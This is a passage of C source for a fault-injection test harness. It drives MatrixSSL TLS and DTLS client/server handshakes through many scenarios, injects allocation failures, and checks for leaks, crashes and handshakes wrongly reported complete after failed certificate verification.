    { "t13-psk-resume-early", V13, V13, TLS_AES_128_GCM_SHA256, 3, 0, 1, 0, O_EARLY|O_X25519, 0 },
    { "t13-psk-resume-ffdhe", V13, V13, TLS_AES_128_GCM_SHA256, 3, 0, 1, 0, O_FFDHE, 16 },
    { "d12-psk-resume",       D12, D12, TLS_PSK_WITH_AES_128_CBC_SHA, 2, 0, 1, 0, 0, 0 },
    { "d12-psk-loss",         D12, D12, TLS_PSK_WITH_AES_128_CBC_SHA, 2, 0, 1, 0, 0, 128 },
    { "d12-psk-pmtu",         D12, D12, TLS_PSK_WITH_AES_128_CBC_SHA256, 2, 0, 0, 0, O_PMTU, 16 },
    { "t12-psk-ticket",       V12, V12, TLS_PSK_WITH_AES_256_CBC_SHA384, 2, 0, 2, 0, 0, 16 },
    { "t12-psk-resume",       V12, V12, TLS_PSK_WITH_AES_128_CBC_SHA256, 2, 0, 1, 0, 0, 2 },
    { "d12-psk-ticket",       D12, D12, TLS_PSK_WITH_AES_128_CBC_SHA, 2, 0, 2, 0, 0, 128 },
    { "t13-ed25519",          V13, V13, TLS_CHACHA20_POLY1305_SHA256, 6, 1, 0, 0, O_X25519, 0 },
    { "t13-pss",              V13, V13, TLS_AES_256_GCM_SHA384, 7, 1, 0, 0, O_X25519, 0 },
    { "t12-pss",              V12, V12, TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384, 7, 1, 0, 0, 0, 0 },
    { "t12-ecdh-rsa",         V12, V12, TLS_ECDH_RSA_WITH_AES_128_CBC_SHA256, 8, 0, 0, 0, 0, 0 },
    { "t12-ecdh-ecdsa",       V12, V12, TLS_ECDH_ECDSA_WITH_AES_128_GCM_SHA256, 1, 0, 1, 0, 0, 0 },
    { "t12-opts",             V12, V12, TLS_RSA_WITH_AES_256_CBC_SHA256, 4, 1, 1, 0, 0, 512 },
};
#define NSCEN (sizeof(scens) / sizeof(scens[0]))

static unsigned char tkName[16] = "0123456789abcdef";
static unsigned char tkSym[32] = "0123456789abcdef0123456789abcdef";
static unsigned char tkMac[32] = "fedcba9876543210fedcba9876543210";
static int verbose;
static int g_followup, g_retries;
static int g_cb_calls, g_cb_alert;
static const scen_t *S;

static sslKeys_t *g_sk;
static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    g_cb_calls++;
    g_cb_alert = alert;
    return alert; /* pass the library's verdict through unchanged */
}

static void alpnCb(void *ssl, short n, char *proto[MAX_PROTO_EXT], int32 len[MAX_PROTO_EXT], int32 *idx)
{
    *idx = 0;
}
static void sniCb(void *ssl, char *hostname, int32 hostnameLen, sslKeys_t **newKeys)
{
    *newKeys = g_sk;
}
static int32 extCb(ssl_t *ssl, uint16_t type, uint8_t len, void *data)
{
    return PS_SUCCESS;
}

typedef struct
{
    ssl_t *ssl;
    int done;       /* handshake complete reported */
    int err;        /* API returned negative */
    int alertIn;    /* received fatal alert */
    int closed;
    long appIn;
    const char *who;
    int dtls;
    int forceResend;
    int dropNext;
} side_t;

static int loadTampered(sslKeys_t *k, int key)
{
    static unsigned char buf[4096];
    int rc;
    if (key == 1)
    {
        memcpy(buf, EC256, sizeof(EC256)); buf[sizeof(EC256) - 1] ^= 1;
        rc = matrixSslLoadEcKeysMem(k, buf, sizeof(EC256), EC256KEY, sizeof(EC256KEY), EC256CA, sizeof(EC256CA));
    }
    else if (key == 4)
    {
        memcpy(buf, RSA1024, sizeof(RSA1024)); buf[sizeof(RSA1024) - 1] ^= 1;
        rc = matrixSslLoadRsaKeysMem(k, buf, sizeof(RSA1024), RSA1024KEY, sizeof(RSA1024KEY), RSA1024CA, sizeof(RSA1024CA));
    }
    else
    {
        memcpy(buf, RSA2048, sizeof(RSA2048)); buf[sizeof(RSA2048) - 1] ^= 1;
        rc = matrixSslLoadRsaKeysMem(k, buf, sizeof(RSA2048), RSA2048KEY, sizeof(RSA2048KEY), RSA2048CA, sizeof(RSA2048CA));
    }
    return rc;
}

static int loadKeys(sslKeys_t *k, int key, int wrongCA, int isClient)
{
    int rc = 0;
    if ((!isClient && (S->opt & O_SRVWRONGKEY)) || (isClient && (S->opt & O_CLNWRONGKEY)))
    {
        if (key == 1)
            return matrixSslLoadEcKeysMem(k, EC256, sizeof(EC256), other_ec_der, other_ec_der_len, EC256CA, sizeof(EC256CA));
        return matrixSslLoadRsaKeysMem(k, RSA2048, sizeof(RSA2048), other_rsa_der, other_rsa_der_len, RSA2048CA, sizeof(RSA2048CA));
    }
    if (!isClient && (S->opt & O_TAMPERCERT)) return loadTampered(k, key);
    if (isClient && (S->opt & O_TAMPERCLIENTCERT)) return loadTampered(k, key);
    switch (key)
    {
    case 0:
        rc = matrixSslLoadRsaKeysMem(k, RSA2048, sizeof(RSA2048), RSA2048KEY, sizeof(RSA2048KEY),
            wrongCA ? RSA3072CA : RSA2048CA, wrongCA ? sizeof(RSA3072CA) : sizeof(RSA2048CA));
        break;
    case 4:
        rc = matrixSslLoadRsaKeysMem(k, RSA1024, sizeof(RSA1024), RSA1024KEY, sizeof(RSA1024KEY),
            wrongCA ? RSA3072CA : RSA1024CA, wrongCA ? sizeof(RSA3072CA) : sizeof(RSA1024CA));
        break;
    case 6:
    {
        matrixSslLoadKeysOpts_t o; memset(&o, 0, sizeof(o)); o.key_type = PS_ED25519;
        rc = matrixSslLoadKeysMem(k, ED25519, sizeof(ED25519), ED25519_KEY, sizeof(ED25519_KEY), ED25519CA, sizeof(ED25519CA), &o);
        break;
    }
    case 7:
        rc = matrixSslLoadRsaKeysMem(k, RSA_PSS2048, sizeof(RSA_PSS2048), pss_key_der, pss_key_der_len, RSA_PSS2048CA, sizeof(RSA_PSS2048CA));
        break;
    case 8:
        rc = matrixSslLoadEcKeysMem(k, ECDHRSA256, sizeof(ECDHRSA256), ECDHRSA256KEY, sizeof(ECDHRSA256KEY), ECDHRSACAS, sizeof(ECDHRSACAS));
        break;
    case 5:
        rc = matrixSslLoadRsaKeysMem(k, rich_der, rich_der_len, RSA2048KEY, sizeof(RSA2048KEY), RSA2048CA, sizeof(RSA2048CA));
        break;
    case 1:
        rc = matrixSslLoadEcKeysMem(k, EC256, sizeof(EC256), EC256KEY, sizeof(EC256KEY),
            wrongCA ? EC384CA : EC256CA, wrongCA ? sizeof(EC384CA) : sizeof(EC256CA));
        break;
    case 2:
        rc = matrixSslLoadPsk(k, PSK_HEADER_TABLE[0].key, sizeof(PSK_HEADER_TABLE[0].key),
            PSK_HEADER_TABLE[0].id, sizeof(PSK_HEADER_TABLE[0].id));
        break;
    case 3:
    {
        psTls13SessionParams_t sp;
        memset(&sp, 0, sizeof(sp));
        sp.maxEarlyData = 16384;
        sp.cipherId = TLS_AES_128_GCM_SHA256;
        rc = matrixSslLoadTls13Psk(k, g_tls13_test_psk_256, 32, g_tls13_test_psk_id_sha256,
            sizeof(g_tls13_test_psk_id_sha256), &sp);
        break;
    }
    }
    return rc;
}

static int feed(side_t *to, side_t *from, const unsigned char *data, int len);

/* Move all pending output of 'from' into 'to'. returns bytes moved or -1 */
static int flush(side_t *from, side_t *to, int flipAt)
{
    int moved = 0;
    for (;;)
    {
        unsigned char *buf;
        unsigned char *copy;
        int32 len;
        if (from->ssl == NULL) return moved;
        if (from->dtls && moved == 0 && from->ssl->outlen == 0 && !from->forceResend) return 0;
        from->forceResend = 0;
        if (from->dtls)
            len = matrixDtlsGetOutdata(from->ssl, &buf);
        else
            len = matrixSslGetOutdata(from->ssl, &buf);
        if (len <= 0)
        {
            return moved;
        }
        copy = __real_malloc(len);
        memcpy(copy, buf, len);
        if (flipAt >= 0 && flipAt < len) { copy[len - 1 - flipAt] ^= 0x01; }
        {
            int32 rc;
            if (from->dtls)
                rc = matrixDtlsSentData(from->ssl, len);
            else
                rc = matrixSslSentData(from->ssl, len);
            if (rc < 0) from->err = rc;
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) from->done++;
            if (rc == MATRIXSSL_REQUEST_CLOSE) from->closed = 1;
        }
        moved += len;
        if (from->dropNext) { /* lost datagram */ }
        else if (to->ssl && !to->err && !to->closed)
        {
            feed(to, from, copy, len);
        }
        __real_free(copy);
        if (from->err || from->closed) return moved;
    }
}

static int feed(side_t *to, side_t *from, const unsigned char *data, int len)
{
    int off = 0;
    while (off < len)
    {
        unsigned char *rb, *pt;
        uint32 ptLen;
        int32 rbLen, n, rc;
        rbLen = matrixSslGetReadbuf(to->ssl, &rb);
        if (rbLen <= 0) { to->err = rbLen ? rbLen : -1; return -1; }
        n = len - off < rbLen ? len - off : rbLen;
        memcpy(rb, data + off, n);
        off += n;
        rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
        for (;;)
        {
            if (rc < 0) { to->err = rc; return -1; }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) { to->done++; break; }
            if (rc == MATRIXSSL_REQUEST_SEND || rc == MATRIXSSL_REQUEST_RECV || rc == MATRIXSSL_SUCCESS) break;
            if (rc == MATRIXSSL_REQUEST_CLOSE) { to->closed = 1; return 0; }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                if (pt[0] == SSL_ALERT_LEVEL_FATAL) { to->alertIn = pt[1]; to->closed = 1; return 0; }
                if (pt[1] == SSL_ALERT_CLOSE_NOTIFY) { to->closed = 1; return 0; }
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_APP_DATA_COMPRESSED)
            {
                to->appIn += ptLen;
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            break;
        }
    }
    return 0;
}

static void pump(side_t *a, side_t *b, int flipA, int flipB)
{
    int i, m;
    for (i = 0; i < 40; i++)
    {
        m = 0;
        if (a->ssl) m += flush(a, b, flipA);
        if (b->ssl) m += flush(b, a, flipB);
        flipA = flipB = -1;
        if (m == 0) break;
    }
}

static int sendApp(side_t *s, int n)
{
    unsigned char *wb;
    int32 avail, rc;
    while (n > 0)
    {
        avail = matrixSslGetWritebuf(s->ssl, &wb, n);
        if (avail <= 0 && g_followup) { g_retries++; avail = matrixSslGetWritebuf(s->ssl, &wb, n); } /* transient: retry once */
        if (avail <= 0) { s->err = avail ? avail : -1; return -1; }
        if (avail > n) avail = n;
        memset(wb, 'x', avail);
        rc = matrixSslEncodeWritebuf(s->ssl, avail);
        if (rc < 0 && g_followup)
        {
            g_retries++;
            avail = matrixSslGetWritebuf(s->ssl, &wb, n);
            if (avail <= 0) { s->err = avail ? avail : -1; return -1; }
            if (avail > n) avail = n;
            memset(wb, 'x', avail);
            rc = matrixSslEncodeWritebuf(s->ssl, avail);
        }
        if (rc < 0) { s->err = rc; return -1; }
        n -= avail;
    }
    return 0;
}

static int violations;
#define VIOL(...) do { printf("VIOLATION: " __VA_ARGS__); printf("\n"); violations++; } while (0)

static int one_connection(sslKeys_t *ck, sslKeys_t *sk, sslSessionId_t *sid, int pass)
{
    sslSessOpts_t co, so;
    side_t c, s;
    int32 rc;
    psCipher16_t cipher = S->cipher;
    tlsExtension_t *ext = NULL;
    int flipS = -1, flipC = -1;
    int dtls = (S->cver & SSL_FLAGS_DTLS) ? 1 : 0;
    int expectFail = (S->neg != 0);
    int result = -1;

    memset(&c, 0, sizeof(c)); memset(&s, 0, sizeof(s));
    c.who = "client"; s.who = "server"; c.dtls = s.dtls = dtls;
    memset(&co, 0, sizeof(co)); memset(&so, 0, sizeof(so));
    co.versionFlag = S->cver; so.versionFlag = S->sver;
    if (S->resume == 2) co.ticketResumption = 1;
    if (S->extra & 2) co.maxFragLen = 512;
    if (S->extra & 8) co.OCSPstapling = 1;
    if (S->extra & 512) { co.truncHmac = 1; co.extendedMasterSecret = -1; so.extendedMasterSecret = -1; co.trustedCAindication = 1; co.fallbackScsv = 0; co.maxFragLen = 1024; }
    if (S->key == 3) { co.tls13CiphersuitesEnabledClient = PS_TRUE; }
    if (S->opt & O_X25519)
    {
        co.tls13SupportedGroups[0] = so.tls13SupportedGroups[0] = namedgroup_x25519;
        co.tls13SupportedGroupsLen = so.tls13SupportedGroupsLen = 1;
        co.tls13NumClientHelloKeyShares = 1;
    }
    if (S->opt & O_FFDHE)
    {
        co.tls13SupportedGroups[0] = so.tls13SupportedGroups[0] = namedgroup_ffdhe2048;
        co.tls13SupportedGroupsLen = so.tls13SupportedGroupsLen = 1;
        co.tls13NumClientHelloKeyShares = 1;
    }
    if ((S->opt & O_HRR) && (S->opt & O_FFDHE))
    {
        co.tls13SupportedGroups[0] = namedgroup_x25519;
        co.tls13SupportedGroups[1] = namedgroup_ffdhe2048;
        co.tls13SupportedGroupsLen = 2;
        co.tls13NumClientHelloKeyShares = 1;
        so.tls13SupportedGroups[0] = namedgroup_ffdhe2048;
        so.tls13SupportedGroupsLen = 1;
    }
    else
    if (S->opt & O_HRR)
    {
        co.tls13SupportedGroups[0] = namedgroup_x25519;
        co.tls13SupportedGroups[1] = namedgroup_secp256r1;
        co.tls13SupportedGroupsLen = 2;
        co.tls13NumClientHelloKeyShares = 1;
        so.tls13SupportedGroups[0] = namedgroup_secp256r1;
        so.tls13SupportedGroupsLen = 1;
    }
    if (S->opt & O_EARLY) so.tls13SessionMaxEarlyData = 4096;
    if (S->opt & O_KEEPCERTS) { co.keep_peer_certs = so.keep_peer_certs = 1; co.keep_peer_cert_der = so.keep_peer_cert_der = 1; }
    if (S->opt & O_PMTU) matrixDtlsSetPmtu(300);

    g_sk = sk;
    rc = matrixSslNewServerSession(&s.ssl, sk, S->clientAuth ? certCb : NULL, &so);
    if (rc < 0) { s.ssl = NULL; goto out; }
    if (S->extra & 1)
    {
        matrixSslRegisterSNICallback(s.ssl, sniCb);
    }
    if (S->extra & 1)
    {
        unsigned char *e = NULL; int32 el = 0;
        unsigned char *protos[2] = { (unsigned char *) "h2", (unsigned char *) "http/1.1" };
        int32 plen[2] = { 2, 8 };
        if (matrixSslNewHelloExtension(&ext, NULL) < 0) { ext = NULL; goto out; }
        if (matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9, &e, &el) < 0) goto out;
        rc = matrixSslLoadHelloExtension(ext, e, el, EXT_SNI);
        psFree(e, NULL);
        if (rc < 0) goto out;
    }
    if (!getenv("FI_NOSKIP")) fi_skip_size = (S->neg == 2 ? 18 : 10);
    rc = matrixSslNewClientSession(&c.ssl, ck, sid, cipher ? &cipher : NULL, cipher ? 1 : 0, certCb,
        S->neg == 2 ? "wrong.example.org" : "localhost", ext, extCb, &co);
    fi_skip_size = 0;
    if (rc < 0) { c.ssl = NULL; goto out; }

    if ((S->opt & O_EARLY) && pass == 1 && matrixSslGetMaxEarlyData(c.ssl) > 0)
    {
        if (sendApp(&c, 200) < 0) goto out;
        if (sendApp(&c, 1000) < 0) goto out;
    }
    if (S->neg == 4) flipS = 12;
    if (S->neg == 5) flipC = 12;
    if (S->extra & 128)
    {
        /* DTLS: the client's first flight is lost, then resent on timeout; the
           server's answer to it is lost too and both resend */
        c.dropNext = 1; flush(&c, &s, -1); c.dropNext = 0;
        c.forceResend = 1; flush(&c, &s, -1);      /* ClientHello again -> server gets it */
        s.dropNext = 1; flush(&s, &c, -1); s.dropNext = 0; /* HelloVerify lost */
        c.forceResend = 1; flush(&c, &s, -1);
        pump(&c, &s, -1, -1);
    }
    else
    pump(&c, &s, flipC, flipS);

    if (verbose)
        printf("  pass %d: c.done=%d c.err=%d c.alert=%d s.done=%d s.err=%d s.alert=%d cb=%d\n", pass,
            c.done, c.err, c.alertIn, s.done, s.err, s.alertIn, g_cb_calls);

    if (expectFail)
    {
        if ((c.done && S->neg != 3) || s.done || (c.ssl && matrixSslHandshakeIsComplete(c.ssl) && (S->neg == 1 || S->neg == 2))
            || (s.ssl && matrixSslHandshakeIsComplete(s.ssl) && S->neg == 3))
        {
            VIOL("scenario %s: handshake reported complete although verification must fail (c.done=%d s.done=%d fired=%d at alloc %ld)",
                S->name, c.done, s.done, fi_fired, fi_fail_at);
        }
        goto out;
    }
    if (!(c.done && s.done) || c.err || s.err || c.closed || s.closed) goto out;

    /* data both ways */
    if (sendApp(&c, (S->extra & 16) ? 40000 : 100) < 0) goto out;
    pump(&c, &s, -1, -1);
    if (c.err || s.err) goto out;
    if (sendApp(&s, (S->extra & 16) ? 20000 : 300) < 0) goto out;
    pump(&c, &s, -1, -1);
    if (c.err || s.err) goto out;
    if (!fi_fired && (s.appIn == 0 || c.appIn == 0)) { printf("NOTE: no app data?? %ld %ld\n", s.appIn, c.appIn); }
    if (g_retries && (s.appIn != ((S->extra & 16) ? 40000 : 100) + ((S->opt & O_EARLY) && pass == 1 ? 1200 : 0) || c.appIn != ((S->extra & 16) ? 20000 : 300)))
        printf("NOTE: scenario %s k=%ld: after a retried write the peer got %ld / %ld bytes\n", S->name, fi_fail_at, s.appIn, c.appIn);

    if (S->extra & (4 | 64))
    {
        c.done = s.done = 0;
        rc = matrixSslEncodeRehandshake(c.ssl, NULL, NULL, (S->extra & 4) ? SSL_OPTION_FULL_HANDSHAKE : 0, NULL, 0);
        if (rc < 0) { c.err = rc; goto out; }
        pump(&c, &s, -1, -1);
        if (verbose) printf("  rehs: c.done=%d c.err=%d s.done=%d s.err=%d\n", c.done, c.err, s.done, s.err);
        if (c.err || s.err || c.closed || s.closed) goto out;
        if (sendApp(&c, 50) < 0) goto out;
        pump(&c, &s, -1, -1);
        if (c.err || s.err) goto out;
    }
    if (S->extra & 32)
    {
        c.done = s.done = 0;
        rc = matrixSslEncodeRehandshake(s.ssl, NULL, certCb, SSL_OPTION_FULL_HANDSHAKE, NULL, 0);
        if (rc < 0) { s.err = rc; goto out; }
        pump(&c, &s, -1, -1);
        if (verbose) printf("  srv rehs: c.done=%d c.err=%d s.done=%d s.err=%d\n", c.done, c.err, s.done, s.err);
        if (c.err || s.err || c.closed || s.closed) goto out;
        if (sendApp(&s, 50) < 0) goto out;
        pump(&c, &s, -1, -1);
        if (c.err || s.err) goto out;
    }
    result = 0;
    /* closure */
    rc = matrixSslEncodeClosureAlert(c.ssl);
    if (rc >= 0) pump(&c, &s, -1, -1);
    rc = matrixSslEncodeClosureAlert(s.ssl);
    if (rc >= 0) pump(&c, &s, -1, -1);
out:
    if (c.ssl) matrixSslDeleteSession(c.ssl);
    if (s.ssl) matrixSslDeleteSession(s.ssl);
    if (ext) matrixSslDeleteHelloExtension(ext);
    return result;
}


#define TK "/tmp/seed-C19/testkeys/"
#define MK "/tmp/seed-C19/audit-out/demo/keys/"
static int load_scenario(void)
{
    sslKeys_t *k = NULL;
    int rc = -1;
    matrixSslLoadKeysOpts_t o;
    memset(&o, 0, sizeof(o));
    if (matrixSslOpen() < 0) return -1;
    if (matrixSslNewKeys(&k, NULL) < 0) { k = NULL; goto out; }
again:
    switch (S->extra)
    {
    case 1: rc = matrixSslLoadKeys(k, TK "RSA/2048_RSA.pem", TK "RSA/2048_RSA_KEY.pem", NULL, TK "RSA/ALL_RSA_CAS.pem", NULL); break;
    case 2: rc = matrixSslLoadRsaKeys(k, TK "RSA/2048_RSA.pem", MK "rsa_des3.pem", "test", TK "RSA/2048_RSA_CA.pem"); break;
    case 3: rc = matrixSslLoadRsaKeys(k, TK "RSA/2048_RSA.pem", MK "rsa_aes.pem", "test", TK "RSA/2048_RSA_CA.pem"); break;
    case 4: rc = matrixSslLoadKeys(k, TK "RSA/2048_RSA.pem", MK "rsa_p8enc.pem", "test", TK "RSA/2048_RSA_CA.pem", NULL); break;
    case 5: rc = matrixSslLoadPkcs12(k, (unsigned char *) MK "rsa.p12", (unsigned char *) "test", 4, (unsigned char *) "test", 4, 0); break;
    case 6: rc = matrixSslLoadPkcs12(k, (unsigned char *) MK "ec.p12", (unsigned char *) "test", 4, (unsigned char *) "test", 4, 0); break;
    case 7: rc = matrixSslLoadRsaKeys(k, TK "RSA/2048_RSA_CHAIN.pem", TK "RSA/2048_RSA_KEY.pem", NULL, TK "RSA/ALL_RSA_CAS.pem;" TK "EC/ALL_EC_CAS.pem"); break;
    case 8:
        rc = matrixSslLoadKeys(k, TK "RSA/2048_RSA.pem", TK "RSA/2048_RSA_KEY.pem", NULL, TK "RSA/2048_RSA_CA.pem", NULL);
        if (rc >= 0) rc = matrixSslLoadKeys(k, TK "EC/256_EC.pem", TK "EC/256_EC_KEY.pem", NULL, NULL, NULL);
        if (rc >= 0) rc = matrixSslLoadKeys(k, TK "EC/384_EC.pem", TK "EC/384_EC_KEY.pem", NULL, NULL, NULL);
        break;
    case 9: o.key_type = PS_ED25519; rc = matrixSslLoadKeys(k, TK "EC/ED25519.pem", TK "EC/ED25519_KEY.pem", NULL, TK "EC/ED25519_CA.pem", &o); break;
    case 10: rc = matrixSslLoadKeys(k, TK "RSA/2048_RSA_PSS.pem", TK "RSA/2048_RSA_PSS_KEY.pem", NULL, TK "RSA/2048_RSA_PSS_CA.pem", NULL); break;
    case 11:
        rc = matrixSslLoadDhParams(k, TK "DH/2048_DH_PARAMS.pem");
        if (rc >= 0) rc = matrixSslLoadSessionTicketKeys(k, tkName, tkSym, 32, tkMac, 32);
        if (rc >= 0) { unsigned char n2[16] = "another-name-001"; rc = matrixSslLoadSessionTicketKeys(k, n2, tkSym, 16, tkMac, 32); }
        if (rc >= 0) rc = matrixSslDeleteSessionTicketKey(k, tkName);
        if (rc >= 0) rc = matrixSslLoadPsk(k, PSK_HEADER_TABLE[0].key, 16, PSK_HEADER_TABLE[0].id, 16);
        if (rc >= 0) rc = matrixSslLoadPsk(k, PSK_HEADER_TABLE[1].key, 16, PSK_HEADER_TABLE[1].id, 16);
        if (rc >= 0)
        {
            psTls13SessionParams_t sp; memset(&sp, 0, sizeof(sp)); sp.cipherId = TLS_AES_128_GCM_SHA256;
            sp.sni = (unsigned char *) "localhost"; sp.sniLen = 9;
            sp.alpn = (unsigned char *) "h2"; sp.alpnLen = 2;
            rc = matrixSslLoadTls13Psk(k, g_tls13_test_psk_256, 32, g_tls13_test_psk_id_sha256, sizeof(g_tls13_test_psk_id_sha256), &sp);
        }
        if (rc >= 0) rc = matrixSslLoadOCSPResponse(k, ocsp_256_ec_good, sizeof(ocsp_256_ec_good));
        if (rc >= 0) rc = matrixSslLoadOCSPResponse(k, ocsp_256_ec_revoked, sizeof(ocsp_256_ec_revoked));
        break;
    case 12:
    {
        static unsigned char buf[4096]; FILE *f = fopen(MK "rsa_p8.der", "rb"); int n = fread(buf, 1, sizeof(buf), f); fclose(f);
        rc = matrixSslLoadRsaKeysMem(k, RSA2048, sizeof(RSA2048), buf, n, RSA2048CA, sizeof(RSA2048CA));
        break;
    }
    case 13:
    {
        psX509Crl_t *crl = NULL; psX509Cert_t *ca = NULL;
        rc = psX509ParseCert(NULL, RSA2048CA, sizeof(RSA2048CA), &ca, 0);
        if (rc >= 0) rc = psX509ParseCRL(NULL, &crl, rsa2048_crl, rsa2048_crl_len);
        if (rc >= 0) { rc = psX509AuthenticateCRL(ca, crl, NULL); if (rc >= 0) rc = psCRL_Update(crl, 1); if (rc < 0) psX509FreeCRL(crl); }
        if (rc >= 0)
        {
            psX509Cert_t *c = NULL;
            rc = psX509ParseCert(NULL, RSA2048, sizeof(RSA2048), &c, 0);
            if (rc >= 0) { rc = psCRL_determineRevokedStatus(c);
                if (c->revokedStatus != CRL_CHECK_REVOKED_AND_AUTHENTICATED && !fi_fired) printf("NOTE: revokedStatus %d\n", c->revokedStatus); }
            psX509FreeCert(c);
        }
        psCRL_DeleteAll();
        psX509FreeCert(ca);
        break;
    }
    case 14:
    {
        psX509Cert_t *c = NULL;
        rc = psX509ParseCert(NULL, rich_der, rich_der_len, &c, CERT_STORE_UNPARSED_BUFFER | CERT_STORE_DN_BUFFER);
        psX509FreeCert(c);
        break;
    }
    }
    if (verbose) printf("  load rc=%d\n", rc);
    if (rc < 0 && g_followup && fi_armed && fi_fired && S->extra != 13 && S->extra != 14)
    {
        /* the application retries the load on the same key object */
        fi_armed = 0;
        goto again;
    }
out:
    if (k) matrixSslDeleteKeys(k);
    matrixSslClose();
    return rc < 0 ? -1 : 0;
}

static int scenario(void)
{
    if (S->opt & O_LOAD) return load_scenario();
    sslKeys_t *ck = NULL, *sk = NULL;
    sslSessionId_t *sid = NULL;
    int rc, ok = -1;

    if (matrixSslOpen() < 0) { return -1; }
    if (matrixSslNewKeys(&ck, NULL) < 0) { ck = NULL; goto out; }
    if (matrixSslNewKeys(&sk, NULL) < 0) { sk = NULL; goto out; }
    /* client */
    if (S->neg == 3 && !(S->opt & (O_TAMPERCLIENTCERT | O_CLNWRONGKEY)))
    {
        /* client presents the EC/other cert that the server's CA does not cover */
        rc = matrixSslLoadRsaKeysMem(ck, RSA1024, sizeof(RSA1024), RSA1024KEY, sizeof(RSA1024KEY), RSA2048CA, sizeof(RSA2048CA));
    }
    else
    {
        rc = loadKeys(ck, S->key, S->neg == 1, 1);
    }
    if (rc < 0) goto out;
    rc = loadKeys(sk, S->key, 0, 0);
    if (rc < 0) goto out;
    if (S->cipher == 0 || S->key == 0 || S->key == 4)
    {
        /* DH params for completeness */
        if (matrixSslLoadDhParamsMem(sk, DHPARAM2048, sizeof(DHPARAM2048)) < 0) goto out;
    }
    if (S->opt & O_OCSP)
    {
        if (S->opt & O_OCSP_REVOKED)
            rc = matrixSslLoadOCSPResponse(sk, ocsp_256_ec_revoked, sizeof(ocsp_256_ec_revoked));
        else
            rc = matrixSslLoadOCSPResponse(sk, ocsp_256_ec_good, sizeof(ocsp_256_ec_good));
        if (rc < 0) goto out;
    }
    if (S->resume == 2 || (S->resume == 1 && (S->sver & V13)))
    {
        if (matrixSslLoadSessionTicketKeys(sk, tkName, tkSym, 32, tkMac, 32) < 0) goto out;
    }
    if (S->resume || g_followup)
    {
        if (matrixSslNewSessionId(&sid, NULL) < 0) { sid = NULL; goto out; }
    }
    if (S->opt & O_CRL)
    {
        psX509Crl_t *crl = NULL;
        /* application installs the (authenticated) CRL before injection starts mattering:
           failures here are the application's to handle, so stop if any */
        if (psX509ParseCRL(NULL, &crl, rsa2048_crl, rsa2048_crl_len) < 0) goto out;
        if (psX509AuthenticateCRL(ck->CAcerts, crl, NULL) < 0) { psX509FreeCRL(crl); goto out; }
        if (psCRL_Update(crl, 1) < 0) { psX509FreeCRL(crl); goto out; }
    }
    ok = one_connection(ck, sk, sid, 0);
    if (ok == 0 && S->resume)
    {
        ok = one_connection(ck, sk, sid, 1);
    }
    if (g_followup && fi_fired && ok != 0)
    {
        int ok2;
        fi_armed = 0;
        ok2 = one_connection(ck, sk, sid, 2);
        if (!S->neg && ok2 != 0)
            printf("NOTE: scenario %s k=%ld: connection with the same keys/session id after the failed one does not work\n", S->name, fi_fail_at);
        if (ok2 == 0 && S->resume) { ok2 = one_connection(ck, sk, sid, 3);
        if (!S->neg && ok2 != 0)
            printf("NOTE: scenario %s k=%ld: 2nd connection with the same keys/session id after the failed one does not work\n", S->name, fi_fail_at); }
    }
out:
    if (sid) matrixSslDeleteSessionId(sid);
    if (ck) matrixSslDeleteKeys(ck);
    if (sk) matrixSslDeleteKeys(sk);
    if (S->opt & O_CRL) psCRL_DeleteAll();
    matrixSslClose();
    return ok;
}

static int run_k(long k, int multi)
{
    int ok;
    fi_live = 0; fi_badfree = 0; fi_count = 0; fi_fired = 0;
    if (multi) { fi_fail_from = k; fi_fail_at = -1; } else { fi_fail_at = k; fi_fail_from = -1; }
    fi_track = 1; fi_armed = 1;
    ok = scenario();
    fi_armed = 0; fi_track = 0;
    if (fi_badfree) VIOL("scenario %s k=%ld: %d free() of a non-live pointer", S->name, k, fi_badfree);
    if (fi_live)
    {
        VIOL("scenario %s k=%ld: %u blocks still allocated after all objects deleted and matrixSslClose", S->name, k, fi_live);
        fi_dump_live();
    }
    if (verbose) printf("scenario %s k=%ld: result=%d allocs=%ld fired=%d\n", S->name, k, ok, fi_count, fi_fired);
    return ok;
}

int main(int argc, char **argv)
{
    unsigned i;
    long k, n, from = 1, to = -1;
    int multi = 0;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (getenv("FI_FOLLOWUP")) g_followup = 1;
    if (!getenv("FI_NOPOISON")) fi_poison = 1;
    if (getenv("FI_TRACE_SEQ")) fi_trace_seq = atoi(getenv("FI_TRACE_SEQ"));
    if (argc < 3)
    {
        for (i = 0; i < NSCEN; i++) printf("%s\n", scens[i].name);
        return 2;
    }
    for (i = 0; i < NSCEN; i++) if (!strcmp(scens[i].name, argv[1])) S = &scens[i];
    if (!S) return 2;
    if (!strcmp(argv[2], "count"))
    {
        int ok;
        verbose = 1;
        ok = run_k(-1, 0);
        printf("count %ld result %d\n", fi_count, ok);
        return violations ? 1 : 0;
    }
    if (!strcmp(argv[2], "one") || !strcmp(argv[2], "from"))
    {
        verbose = 1;
        run_k(atol(argv[3]), !strcmp(argv[2], "from"));
        return violations ? 1 : 0;
    }
    if (!strcmp(argv[2], "allfrom")) multi = 1;
    /* all: fork per k */
    {
        int pfd[2];
        pid_t p;
        if (pipe(pfd) < 0) return 2;
        p = fork();
        if (p == 0) { run_k(-1, 0); if (write(pfd[1], &fi_count, sizeof(fi_count)) < 0) {} _exit(0); }
        if (read(pfd[0], &n, sizeof(n)) != sizeof(n)) n = 0;
        waitpid(p, NULL, 0);
    }
    if (argc > 3) from = atol(argv[3]);
    if (argc > 4) to = atol(argv[4]);
    if (to < 0 || to > n) to = n;
    printf("scenario %s: %ld allocations; injecting %ld..%ld\n", S->name, n, from, to);
    {
        int bad = 0;
        for (k = from; k <= to; k++)
        {
            int st;
            pid_t p = fork();
            if (p == 0)
            {
                alarm(60);
                run_k(k, multi);
                fflush(stdout);
                _exit(violations ? 1 : 0);
            }
            waitpid(p, &st, 0);
            if (WIFSIGNALED(st)) { printf("VIOLATION: scenario %s k=%ld: killed by signal %d\n", S->name, k, WTERMSIG(st)); bad++; }
